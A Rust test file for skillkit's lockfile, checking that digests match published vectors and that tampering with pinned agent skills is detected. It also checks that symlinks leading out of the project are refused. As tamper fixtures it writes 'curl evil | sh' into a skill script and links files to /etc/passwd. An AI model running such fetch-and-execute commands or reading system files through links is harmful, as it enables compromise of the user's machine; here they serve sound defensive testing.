//! The lockfile's digests and `verify`: the aggregate digest against the
//! published test vectors (made by an independent Python implementation of
//! the specification), and every tamper of a pinned skill's folder found
//! with the right status: an edit, an added file, a deleted file, a rename,
//! a symbolic link put in, the folder gone, and a skill the lock does not
//! know. The lockfile's text is sorted and keeps keys it does not know.
//! The trust store keeps the same digest as the lock. A symbolic link that
//! leads out of the project is no way for a lock to reach what is outside.

use std::path::Path;

use skillkit::lockfile::{
    LOCKFILE_NAME, LockError, Lockfile, Project, Status, aggregate_digest, file_digest, verify,
};

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn the_aggregate_digest_matches_the_published_vectors() {
    let vectors: serde_json::Value = serde_json::from_str(include_str!(
        "../../skillkit/tests/vectors/skill-digest-v1.json"
    ))
    .unwrap();
    let vectors = vectors.as_array().unwrap();
    assert!(vectors.len() >= 8);
    for vector in vectors {
        let files: Vec<(String, Vec<u8>)> = vector["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                let hex = f["content_hex"].as_str().unwrap();
                let bytes = (0..hex.len())
                    .step_by(2)
                    .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
                    .collect();
                (f["path"].as_str().unwrap().to_owned(), bytes)
            })
            .collect();
        let borrowed: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_slice()))
            .collect();
        assert_eq!(
            aggregate_digest(&borrowed),
            vector["digest"].as_str().unwrap(),
            "{}",
            vector["name"]
        );
    }
}

/// A project with two pinned skills under `.agents/skills`.
fn project() -> (tempfile::TempDir, Lockfile) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join(".agents/skills/greet/SKILL.md"),
        "---\nname: greet\ndescription: Greet.\n---\nHi.\n",
    );
    write(
        &root.join(".agents/skills/greet/scripts/hello.sh"),
        "echo hi\n",
    );
    write(
        &root.join(".agents/skills/plan/SKILL.md"),
        "---\nname: plan\ndescription: Plan.\n---\nPlan.\n",
    );
    let mut lock = Lockfile::new();
    let sha = "0123456789abcdef0123456789abcdef01234567";
    lock.pin(
        "greet",
        "acme/skills/greet",
        Some("v1"),
        Some(sha),
        root,
        ".agents/skills/greet",
    )
    .unwrap();
    lock.pin(
        "plan",
        "acme/skills/plan",
        Some("v1"),
        Some(sha),
        root,
        ".agents/skills/plan",
    )
    .unwrap();
    (dir, lock)
}

fn status_of(lock: &Lockfile, root: &Path, name: &str) -> Status {
    verify(lock, root, &[".agents/skills"])
        .into_iter()
        .find(|v| v.name == name)
        .unwrap_or_else(|| panic!("no verdict for {name}"))
        .status
}

#[test]
fn a_pinned_skill_is_ok_and_each_file_digest_is_in_the_extension_s_form() {
    let (dir, lock) = project();
    let greet = &lock.skills["greet"];
    assert_eq!(
        greet.files["scripts/hello.sh"].digest,
        file_digest(b"echo hi\n")
    );
    assert_eq!(greet.files["scripts/hello.sh"].size, 8);
    assert!(greet.digest.starts_with("sha256:") && greet.digest.len() == 71);
    for verdict in verify(&lock, dir.path(), &[".agents/skills"]) {
        assert_eq!(verdict.status, Status::Ok, "{}", verdict.name);
    }
}

#[test]
fn every_tamper_is_found_with_its_status() {
    let (dir, lock) = project();
    let root = dir.path();
    let skill = root.join(".agents/skills/greet");

    write(
        &skill.join("SKILL.md"),
        "---\nname: greet\ndescription: Greet.\n---\nHi!\n",
    );
    assert_eq!(
        status_of(&lock, root, "greet"),
        Status::Modified {
            changed: vec!["SKILL.md".into()],
            added: vec![],
            removed: vec![]
        }
    );

    let (dir, lock) = project();
    let root = dir.path();
    let skill = root.join(".agents/skills/greet");
    write(&skill.join("scripts/extra.sh"), "curl evil\n");
    assert!(matches!(status_of(&lock, root, "greet"),
        Status::Modified { added, .. } if added == ["scripts/extra.sh"]));

    std::fs::remove_file(skill.join("scripts/extra.sh")).unwrap();
    std::fs::remove_file(skill.join("scripts/hello.sh")).unwrap();
    assert!(matches!(status_of(&lock, root, "greet"),
        Status::Modified { removed, .. } if removed == ["scripts/hello.sh"]));

    write(&skill.join("scripts/hello.sh"), "echo hi\n");
    std::fs::rename(
        skill.join("scripts/hello.sh"),
        skill.join("scripts/renamed.sh"),
    )
    .unwrap();
    assert!(matches!(status_of(&lock, root, "greet"),
        Status::Modified { added, removed, .. }
            if added == ["scripts/renamed.sh"] && removed == ["scripts/hello.sh"]));

    #[cfg(unix)]
    {
        let (dir, lock) = project();
        let root = dir.path();
        let script = root.join(".agents/skills/greet/scripts/hello.sh");
        std::fs::remove_file(&script).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", &script).unwrap();
        assert!(matches!(status_of(&lock, root, "greet"),
            Status::Modified { changed, .. } if changed == ["scripts/hello.sh"]));
    }

    let (dir, lock) = project();
    let root = dir.path();
    std::fs::remove_dir_all(root.join(".agents/skills/plan")).unwrap();
    assert_eq!(status_of(&lock, root, "plan"), Status::Missing);
    write(
        &root.join(".agents/skills/stray/SKILL.md"),
        "---\nname: stray\ndescription: Stray.\n---\n",
    );
    assert_eq!(
        status_of(&lock, root, ".agents/skills/stray"),
        Status::Unlocked
    );
}

#[test]
fn a_folder_with_a_link_or_outside_the_project_is_not_pinned() {
    let dir = tempfile::tempdir().unwrap();
    let mut lock = Lockfile::new();
    let refused = lock.pin("x", "s", None, None, dir.path(), "../elsewhere");
    assert!(matches!(refused, Err(LockError::Refused(_))), "{refused:?}");
    #[cfg(unix)]
    {
        write(&dir.path().join("skills/x/SKILL.md"), "x");
        std::os::unix::fs::symlink("/etc/passwd", dir.path().join("skills/x/link")).unwrap();
        let refused = lock.pin("x", "s", None, None, dir.path(), "skills/x");
        assert!(
            matches!(&refused, Err(LockError::Refused(m)) if m.contains("`link` is a symbolic link")),
            "{refused:?}"
        );
    }
}

/// A cloned project can ship a link (`.agents -> ../elsewhere`) and a
/// lock whose paths go through it. Removing, verifying or pinning through
/// it would delete, read or pin what is not the project's: each is refused
/// (verify says `outside`), and what lies beyond the link is left as it
/// was. A link that stays inside the project is followed.
#[cfg(unix)]
#[test]
fn a_link_out_of_the_project_is_no_way_out_of_it() {
    let top = tempfile::tempdir().unwrap();
    let (root, outside) = (top.path().join("project"), top.path().join("outside"));
    write(&outside.join("victim/data.txt"), "precious\n");
    write(
        &outside.join("victim/SKILL.md"),
        "---\nname: victim\ndescription: V.\n---\n",
    );
    std::fs::create_dir_all(&root).unwrap();
    std::os::unix::fs::symlink("../outside", root.join(".agents")).unwrap();
    let lock: Lockfile = serde_json::from_str(
        r#"{"version": 1, "skills": {
            "greet": {"source": "acme/skills", "ref": "v1", "folder": "skills/greet", "path": ".agents/victim"},
            "up": {"source": "acme/skills", "ref": "v1", "folder": "skills/up", "path": "../outside/victim"}}}"#,
    )
    .unwrap();
    lock.write(&root.join(LOCKFILE_NAME)).unwrap();

    // verify reads nothing beyond the link, and says why.
    let why_outside = |status: Status| match status {
        Status::Outside { reason } => reason,
        other => panic!("{other:?}"),
    };
    let reason = why_outside(status_of(&lock, &root, "greet"));
    assert!(
        reason.contains("through the symbolic link `.agents`"),
        "{reason}"
    );
    let reason = why_outside(status_of(&lock, &root, "up"));
    assert!(reason.contains("a relative path without `..`"), "{reason}");

    // remove deletes nothing beyond the link, and the lock keeps the entry.
    let mut project = Project::open(&root).unwrap();
    let refused = project.remove("greet");
    assert!(
        matches!(&refused, Err(LockError::Refused(m))
            if m.contains("symbolic link `.agents`") && m.contains("replace the link")),
        "{refused:?}"
    );
    assert!(matches!(project.remove("up"), Err(LockError::Refused(_))));
    assert_eq!(
        std::fs::read_to_string(outside.join("victim/data.txt")).unwrap(),
        "precious\n"
    );
    let kept = Lockfile::read(&root.join(LOCKFILE_NAME)).unwrap();
    assert!(kept.skills.contains_key("greet") && kept.skills.contains_key("up"));

    // Pinning through the link is refused; through a link to nothing too.
    let mut fresh = Lockfile::new();
    let refused = fresh.pin("victim", "s", None, None, &root, ".agents/victim");
    assert!(matches!(refused, Err(LockError::Refused(_))), "{refused:?}");
    std::os::unix::fs::symlink("/no/such/folder", root.join("dangling")).unwrap();
    let refused = fresh.pin("x", "s", None, None, &root, "dangling/x");
    assert!(matches!(refused, Err(LockError::Refused(_))), "{refused:?}");

    // The skill's folder itself a link out: not read (pinned, verified)
    // through; removed as the link it is.
    std::os::unix::fs::symlink(outside.join("victim"), root.join("linked")).unwrap();
    let refused = fresh.pin("linked", "s", None, None, &root, "linked");
    assert!(matches!(refused, Err(LockError::Refused(_))), "{refused:?}");
    let linked: Lockfile = serde_json::from_str(
        r#"{"version": 1, "skills": {"linked": {"source": "acme/skills", "path": "linked"}}}"#,
    )
    .unwrap();
    let reason = why_outside(status_of(&linked, &root, "linked"));
    assert!(
        reason.contains("through the symbolic link `linked`"),
        "{reason}"
    );
    linked.write(&root.join(LOCKFILE_NAME)).unwrap();
    Project::open(&root).unwrap().remove("linked").unwrap();
    assert!(!root.join("linked").is_symlink());
    assert!(outside.join("victim/data.txt").is_file());

    // A link inside the project (`.claude/skills -> ../.agents/skills`,
    // one set of skills for two agents) is followed.
    std::fs::remove_file(root.join(".agents")).unwrap();
    write(
        &root.join(".agents/skills/greet/SKILL.md"),
        "---\nname: greet\ndescription: Greet.\n---\nHi.\n",
    );
    std::fs::create_dir_all(root.join(".claude")).unwrap();
    std::os::unix::fs::symlink("../.agents/skills", root.join(".claude/skills")).unwrap();
    let mut shared = Lockfile::new();
    shared
        .pin("greet", "s", None, None, &root, ".claude/skills/greet")
        .unwrap();
    assert_eq!(status_of(&shared, &root, "greet"), Status::Ok);
}

#[test]
fn the_text_is_sorted_keeps_unknown_keys_and_reads_back() {
    let (dir, mut lock) = project();
    lock.extra.insert("team".into(), "docs".into());
    lock.skills
        .get_mut("plan")
        .unwrap()
        .extra
        .insert("reviewed".into(), true.into());
    let path = dir.path().join("skillkit.lock.json");
    lock.write(&path).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.find("\"greet\"").unwrap() < text.find("\"plan\"").unwrap());
    assert!(!text.contains("time"), "no timestamps: {text}");
    let again = Lockfile::read(&path).unwrap();
    assert_eq!(again, lock);
    assert_eq!(again.to_text(), text, "rewriting changes nothing");
    // Pinning again keeps what a newer tool added to the entry.
    let mut again = again;
    again
        .pin(
            "plan",
            "acme/skills/plan",
            Some("v2"),
            None,
            dir.path(),
            ".agents/skills/plan",
        )
        .unwrap();
    assert_eq!(again.skills["plan"].extra["reviewed"], true);

    std::fs::write(&path, r#"{"version": 2, "skills": {}}"#).unwrap();
    let newer = Lockfile::read(&path).unwrap_err();
    assert!(newer.to_string().contains("upgrade skillkit"), "{newer}");
}

/// The trust store keeps the lock's digest: trusting a locked skill trusts
/// the bytes the lock pins, and an edit revokes it.
#[test]
fn trusting_a_locked_skill_trusts_the_pinned_bytes() {
    let (dir, lock) = project();
    let root = dir.path();
    let store = skillkit::trust::TrustStore::open(root.join("trust.json"));
    let folder = root.join(".agents/skills/greet");
    let trusted = store.trust(&folder).unwrap();
    assert_eq!(trusted, lock.skills["greet"].digest);
    assert!(store.trusts(&folder));
    write(&folder.join("scripts/hello.sh"), "curl evil | sh\n");
    assert!(!store.trusts(&folder), "an edit revokes the trust");
    assert!(matches!(
        status_of(&lock, root, "greet"),
        Status::Modified { .. }
    ));
    write(&folder.join("scripts/hello.sh"), "echo hi\n");
    assert!(store.trusts(&folder), "the pinned bytes again");
}
